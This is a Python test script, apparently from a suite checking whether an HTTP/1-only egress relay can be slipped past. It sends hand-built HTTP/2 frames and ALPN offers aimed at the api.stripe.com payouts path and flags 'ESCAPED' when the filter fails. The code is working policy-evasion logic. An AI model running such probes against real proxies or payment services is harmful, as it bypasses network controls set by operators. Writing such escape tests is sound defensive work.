# attack: HTTP/2 without asking, or by ALPN: pseudo-headers and frames have no place where an HTTP/1 check would look for them
# expect: broker
# validator: refused
import socket
import ssl
import struct

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"


def frame(kind, flags, stream, body=b""):
    return struct.pack(">I", len(body))[1:] + struct.pack(">BBI", kind, flags, stream) + body


def literal(name, value):
    # HPACK without compression: a literal that is not indexed.
    return b"\x00" + bytes((len(name),)) + name + bytes((len(value),)) + value


HEADERS = b"".join(
    literal(name, value)
    for name, value in (
        (b":method", b"GET"),
        (b":scheme", b"https"),
        (b":authority", b"api.stripe.com"),
        (b":path", b"/v1/payouts"),
        (b"transfer-encoding", b"chunked"),
    )
)
TALK = PREFACE + frame(4, 0, 0) + frame(1, 5, 1, HEADERS)


def over(port, protocols):
    plain = socket.create_connection(("api.stripe.com", port), 1)
    stream = plain
    if port == 443:
        context = ssl.create_default_context()
        if protocols:
            context.set_alpn_protocols(protocols)
        stream = context.wrap_socket(plain, server_hostname="api.stripe.com")
        if stream.selected_alpn_protocol() not in (None, "http/1.1"):
            print("ESCAPED: the relay chose", stream.selected_alpn_protocol(), flush=True)
    stream.settimeout(0.3)
    stream.sendall(TALK)
    answer = stream.recv(65536)
    print(port, protocols, answer[:30])
    # A frame of type SETTINGS is how an HTTP/2 server begins.
    if len(answer) > 9 and not answer.startswith(b"HTTP/1") and answer[3] == 4:
        print("ESCAPED: the relay speaks HTTP/2", flush=True)
    if b"payouts" in answer and b" 200 " in answer[:20]:
        print("ESCAPED: the forbidden path was answered", flush=True)


for port, protocols in ((80, []), (443, []), (443, ["h2"]), (443, ["h2", "http/1.1"]), (443, ["spdy/3", "h3", "http/1.0"])):
    try:
        over(port, protocols)
    except OSError as error:
        print(port, protocols, error)
